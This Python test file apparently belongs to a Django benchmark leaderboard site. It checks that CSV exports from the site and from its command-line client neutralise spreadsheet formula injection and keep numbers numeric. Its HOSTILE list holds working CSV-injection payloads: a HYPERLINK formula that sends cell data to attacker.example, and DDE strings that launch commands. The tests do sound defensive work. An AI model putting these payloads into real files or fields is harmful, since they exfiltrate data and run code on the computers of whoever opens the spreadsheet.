"""Every CSV the site serves or the command-line client writes neutralises cells a spreadsheet would
run as a formula, keeps plain numbers numeric, and is named ``….csv``."""
from __future__ import annotations

import csv
import io
import re

import pytest
from django.urls import reverse

from accounts.models import Team
from catalogue.models import Scenario
from magebench_client import commands
from magebench_client.csv_safe import csv_cell
from submissions.models import Attempt, ModelEntry, Submission
from submissions.services import submission_result_rebuild

#: What a submitter controls (names, an endpoint's error text) and a spreadsheet would run or mangle.
HOSTILE = ["=HYPERLINK(\"http://attacker.example/?\"&A1,\"open\")", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
NUMBERS = ["-12.5", "-3", "+4", "1e-3", "-0.25E+2", "42"]


def test_a_cell_starting_like_a_formula_gets_a_leading_quote_and_a_plain_number_stays_as_it_is():
    assert [csv_cell(text) for text in HOSTILE] == ["'" + text for text in HOSTILE]
    assert [csv_cell(text) for text in NUMBERS] == NUMBERS
    assert [csv_cell(value) for value in (-12.5, 3, None, True, "Vision-7B", "", "-", "-inf", "- 1")] == [
        -12.5, 3, None, True, "Vision-7B", "", "'-", "'-inf", "'- 1"]


@pytest.fixture
def hostile_board(fixture_scenarios):
    team = Team.objects.create(name="\tTabbed team", slug="tabbed")
    scenario = Scenario.objects.filter(environment_id="sokoban", suite="fixture", in_mini=True).order_by("key").first()
    model = ModelEntry.objects.create(team=team, name=HOSTILE[0], organisation=HOSTILE[3], parameter_count=7)
    submission = Submission.objects.create(team=team, model=model, environment_id="sokoban", flow="global",
                                           subset="mini", suite="fixture", status=Submission.Status.COMPLETED,
                                           is_public=True, settings={"repeats": 1})
    Attempt.objects.create(submission=submission, scenario=scenario, repeat=0, status=Attempt.Status.SCORED,
                           score=-12.5)
    submission_result_rebuild(submission_id=submission.id)
    return submission


@pytest.mark.django_db
def test_the_board_export_neutralises_submitted_names_and_keeps_a_negative_mean_numeric(client, hostile_board):
    response = client.get(reverse("board-export", args=["sokoban", "global", "mini", "csv"]) + "?suite=fixture")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert re.fullmatch(r'attachment; filename="magebench-sokoban-global-mini-fixture\.csv"',
                        response["Content-Disposition"])
    row = next(csv.DictReader(io.StringIO(response.content.decode())))
    assert (row["model"], row["organisation"], row["team"]) == ("'" + HOSTILE[0], "'" + HOSTILE[3], "'\tTabbed team")
    assert row["mean"] == "-12.5" and row["parameter_count"] == "7"
    assert not [cell for cell in row.values() if cell[:1] in ("=", "+", "@", "\t", "\r")
                or (cell[:1] == "-" and not re.fullmatch(r"-[\d.eE+-]+", cell))]


@pytest.mark.django_db
def test_a_board_export_in_a_format_the_site_does_not_serve_is_a_404(client, hostile_board):
    for fmt in ("html", "exe", "csv.html"):
        assert client.get(reverse("board-export", args=["sokoban", "global", "mini", fmt])).status_code == 404


def test_the_command_line_clients_csv_files_are_neutralised_through_the_same_helper():
    rows = [{"scenario": text, "repeat": 0, "score": -12.5, "error_message": text} for text in HOSTILE]
    rows.append({"scenario": "1-Sokoban-small-v0", "repeat": 1, "score": "-3", "error_message": ""})
    out = io.StringIO()
    commands.write_csv(out, ("scenario", "repeat", "score", "error_message"), rows)
    written = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [r["scenario"] for r in written] == ["'" + text for text in HOSTILE] + ["1-Sokoban-small-v0"]
    assert [r["error_message"] for r in written] == ["'" + text for text in HOSTILE] + [""]
    assert {r["score"] for r in written} == {"-12.5", "-3"}
